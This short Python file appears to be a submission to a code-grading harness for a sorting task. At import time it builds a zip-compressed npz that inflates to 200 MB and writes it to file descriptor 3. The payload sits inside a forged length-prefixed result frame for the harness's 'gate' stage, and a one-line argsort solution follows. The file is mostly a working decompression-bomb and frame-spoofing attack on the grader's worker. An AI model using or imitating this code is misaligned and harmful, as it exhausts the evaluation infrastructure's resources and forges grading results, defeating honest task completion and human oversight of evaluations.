import io
import json
import os
import struct
import zipfile

import numpy as np

# Attack: an old-style result frame whose deflated npz inflates to 200 MB in the worker.
zeros = np.zeros(1 << 20, dtype=np.uint8).tobytes()
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    with z.open("orders.npy", "w", force_zip64=True) as f:
        for _ in range(200):
            f.write(zeros)
head = json.dumps({"type": "set", "stage": "gate", "index": 0}).encode()
os.write(3, struct.pack("<II", len(head), len(buf.getvalue())) + head + buf.getvalue())


def solve(x):
    return np.argsort(x)
